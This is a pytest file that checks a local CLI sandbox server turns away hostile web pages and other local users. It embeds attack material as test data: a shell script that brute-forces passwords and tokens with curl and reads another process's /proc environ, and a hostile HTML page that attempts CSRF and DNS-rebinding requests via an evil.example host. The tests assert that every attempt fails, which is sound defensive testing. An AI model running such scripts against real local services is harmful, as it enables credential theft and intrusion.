"""The sandbox runs commands, so it is no way in: not for a web page, nor for another local user."""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import queue
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from scalingo_cli.sandbox import Sandbox
from scalingo_cli.sandbox.seed import company
from tests.fake_servers import Quiet, served
from tests.programs import require
from tests.sandbox.conftest import Http, Regional, WithSecret


def send(url: str, method: str, path: str, headers: dict[str, str], body: str = "") -> Any:
    """Send a request with just these headers, and return the answer, which has its text."""
    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=20)
    with contextlib.closing(connection):
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            connection.putheader(name, value)
        connection.endheaders(body.encode())
        answer = connection.getresponse()
        return answer.status, answer.read().decode()


def test_only_its_own_address_is_answered(sandbox: Sandbox) -> None:
    port = urlsplit(sandbox.url).port
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", f"127.8.8.8:{port}"):
        assert send(sandbox.url, "GET", "/v1/apps", {"Host": host})[0] == 401
    for host in (
        f"evil.example:{port}",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "192.168.1.2",
        "0.0.0.0",  # noqa: S104 - a browser may send it
        "[::1",
        "",
    ):
        status, said = send(sandbox.url, "GET", "/v1/apps", {"Host": host})
        assert (status, json.loads(said).keys()) == (403, {"error"}), host
    assert send(sandbox.url, "GET", "/v1/apps", {})[0] == 403
    there = {"Host": f"127.0.0.1:{port}"}
    assert send(sandbox.url, "GET", "http://evil.example/v1/apps", there)[0] == 403
    assert {request.status for request in sandbox.requests} == {401}


@pytest.mark.parametrize("path", ["/v1/apps", "/_sandbox", "/attach/0"])
@pytest.mark.parametrize("method", ["GET", "POST", "PUT", "OPTIONS", "CONNECT"])
def test_nothing_with_an_origin_is_answered(method: str, path: str, sandbox: Sandbox) -> None:
    for origin in (sandbox.url, "http://evil.example", "null", ""):
        headers = {
            "Host": "localhost",
            "Origin": origin,
            "Authorization": f"Bearer {sandbox.secret}",
        }
        assert send(sandbox.url, method, path, headers)[0] == 403
    assert sandbox.requests == []


def test_the_official_client_is_no_page(sandbox: Sandbox) -> None:
    """It sends an Origin with a path, which no browser does."""
    for origin, status in (
        ("http://scalingo-cli.local/1.48.0", 401),
        ("http://scalingo-cli.local", 403),
        ("http://scalingo-cli.local.evil.example/1", 403),
    ):
        headers = {"Host": "localhost", "Origin": origin}
        assert send(sandbox.url, "GET", "/v1/apps", headers)[0] == status


def test_a_body_is_json_or_refused(sandbox: Sandbox, http: Http) -> None:
    """A page may not send any of it without asking."""
    body = json.dumps({"app": {"name": "tea-room"}})
    for kind in (
        "text/plain",
        "text/plain; application/json",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=application/json",
        "",
    ):
        for path in ("/v1/apps", "/_sandbox/reset"):
            answer = http("POST", path, data=body, headers={"Content-Type": kind})
            assert answer.status_code == 400, (kind, path)
    assert "tea-room" not in http("GET", "/v1/apps").text
    typed = {"Content-Type": "Application/JSON;charset=utf-8"}
    assert http("POST", "/v1/apps", data=body, headers=typed).status_code == 201


def test_the_controls_have_a_secret_of_their_own(sandbox: Sandbox, http: Http) -> None:
    for auth in [lambda request: request, ("", sandbox.token), ("", sandbox.secret)]:
        for method, name in (("GET", ""), ("POST", "/reset"), ("DELETE", "/faults")):
            answer = http(method, f"/_sandbox{name}", auth=auth)
            assert (answer.status_code, list(answer.json())) == (401, ["error"])
    shown = http("GET", "/_sandbox").json()
    assert shown["token"] == sandbox.token, shown
    assert http("GET", "/v1/apps", auth=WithSecret(sandbox)).status_code == 401


def test_everything_secret_is_drawn_at_each_start(regional: Regional) -> None:
    one = regional.sandbox
    with Sandbox() as other, Sandbox(protocol="legacy") as legacy:
        drawn = []
        for sandbox in (one, other, legacy):
            drawn += [sandbox.secret, sandbox.password, sandbox.token]
            drawn += [user.token for user in sandbox.store.users if user.token]
            drawn += [user.password for user in sandbox.store.users]
            drawn += [token.value for token in sandbox.store.tokens]
            before = sandbox.token
            sandbox.reset()
            assert sandbox.token == before
    written = [user.password for user in company.USERS.values()]
    written += [user.token for user in company.USERS.values()]
    written += [value for rows in company.TOKENS.values() for _, value in rows]
    assert not set(drawn) & set(written)
    own = {one.secret, one.token, one.password}
    assert not own & {other.secret, other.token, other.password, legacy.token, legacy.password}
    assert all(len(value) > 32 for value in drawn)


STRANGER = r"""
for password in $PASSWORDS; do
    curl -s -o /dev/null -w '%{http_code} ' -u "noor:$password" \
        -H 'Content-Type: application/json' -d '{"token": {"name": "mine"}}' "$AUTH/v1/tokens"
done
for token in $TOKENS; do
    curl -s -o /dev/null -w '%{http_code} ' -X POST -u ":$token" "$AUTH/v1/tokens/exchange"
done
curl -s -o /dev/null -w '%{http_code} ' "$AUTH/_sandbox"
cat /proc/$VICTIM/environ 2>/dev/null
find "$DIRECTORY" -mindepth 1 2>/dev/null
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can become another user")
def test_another_local_user_finds_no_way_in(regional: Regional, tmp_path: Path) -> None:
    """With all that the source holds, and what lies about on this machine."""
    require("curl")
    one = regional.sandbox
    written = [value for rows in company.TOKENS.values() for _, value in rows]
    passwords = [user.password for user in company.USERS.values()]
    started = regional(
        "POST", "api", f"/v1/apps/{one.main_app}/run", {"command": "sleep 60", "detached": True}
    )
    assert started.status_code == 200
    [one_off] = one.store.one_offs
    process = one_off.container._process
    assert process
    said = subprocess.run(
        ["/bin/sh", "-c", STRANGER],
        env={
            "PATH": os.environ["PATH"],
            "AUTH": str(one.auth_url),
            "PASSWORDS": " ".join(passwords),
            "TOKENS": " ".join(written),
            "VICTIM": str(process.pid),
            "DIRECTORY": str(one_off.container._directory.path),
        },
        cwd="/",
        user=65534,
        group=65534,
        extra_groups=[],
        capture_output=True,
        text=True,
        check=False,
    )
    assert said.stdout.split() == ["401"] * (len(passwords) + len(written) + 1)


PAGE = """<!doctype html><title>a page</title><iframe name="hidden"></iframe><script>
const here = location.origin, address = here.replace("evil.example", "127.0.0.1"), seen = [];
async function attempt(what, url, options) {
  try {
    const answer = await fetch(url, {cache: "no-store", ...options});
    seen.push([what, answer.status, await answer.text()]);
  } catch (error) { seen.push([what, 0, ""]); }
}
function form(action) {
  return new Promise(done => {
    const form = document.createElement("form"), field = document.createElement("input");
    Object.assign(form, {action, method: "POST", enctype: "text/plain", target: "hidden"});
    Object.assign(field, {name: '{"command": "id", "x": "', value: '"}'});
    form.append(field); document.body.append(form);
    document.querySelector("iframe").onload = done;
    form.submit();
  });
}
onload = async () => {
  const json = {"Content-Type": "application/json"}, plain = {"Content-Type": "text/plain"};
  for (const base of [here, address])
    for (const path of ["/_sandbox", "/v1/apps", "/v1/addon_providers"])
      await attempt("GET", base + path);
  for (const base of [here, address])
    for (const path of ["/_sandbox/reset", "/v1/apps/pinecrate-shop/run", "/v1/users/sign_in"]) {
      await attempt("POST", base + path, {method: "POST", headers: json, body: "{}"});
      await attempt("POST", base + path, {method: "POST", headers: plain, body: "{}"});
      await attempt("POST", base + path, {method: "POST", mode: "no-cors", body: "{}"});
      await attempt("POST", base + path, {method: "POST", mode: "no-cors"});
      await form(base + path);
    }
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
};
</script>"""


@contextlib.contextmanager
def attacker(sandbox: Sandbox) -> Iterator[tuple[str, queue.Queue[Any], list[tuple[str, int]]]]:
    """Serve a page, and all else from the sandbox, as if the page's name were now its address.

    Gives the URL, where the page's report comes, and what the sandbox answered to.
    """
    reports: queue.Queue[Any] = queue.Queue()
    passed: list[tuple[str, int]] = []

    class Handler(Quiet):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            status, said = 200, PAGE.encode()
            if self.path == "/report":
                reports.put(json.loads(body))
            elif self.path != "/":
                headers = dict(self.headers.items())
                headers.pop("Content-Length", None)
                status, text = send(sandbox.url, self.command, self.path, headers, body.decode())
                passed.append((f"{self.command} {self.headers['Host'].split(':')[0]}", status))
                said = text.encode()
            self.send_response(status)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(said)))
            self.end_headers()
            self.wfile.write(said)

        do_GET = do_POST = do_OPTIONS = answer  # noqa: N815 - so called

    with served(Handler) as url:
        yield url, reports, passed


def test_no_page_gets_in(sandbox: Sandbox, tmp_path: Path) -> None:
    """A real browser tries by name, as after DNS rebinding, by address, and by a form."""
    chromium = require("chromium")
    sandbox.fail_next("500", path="/v1/a-mark")  # which a reset would remove
    with attacker(sandbox) as (url, reports, passed):
        browser = subprocess.Popen(
            [
                chromium,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-dev-shm-usage",
                "--no-first-run",
                "--no-proxy-server",
                "--host-resolver-rules=MAP evil.example 127.0.0.1",
                f"--user-data-dir={tmp_path / 'profile'}",
                url.replace("127.0.0.1", "evil.example"),
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            seen = reports.get(timeout=90)
        finally:
            browser.terminate()
            browser.wait()
    assert {status for _, status, _ in seen} <= {0, 403}
    assert not any(secret in text for _, _, text in seen for secret in (sandbox.token, "plans"))
    asked = {what for what, status in passed if status in (400, 401, 403)}
    assert {"GET evil.example", "POST evil.example", "POST 127.0.0.1"} <= asked
    assert {status for _, status in passed} <= {400, 401, 403}
    changes = [status for what, status in passed if what.startswith("POST")]
    assert set(changes) == {403}
    assert len(sandbox.faults) == 1
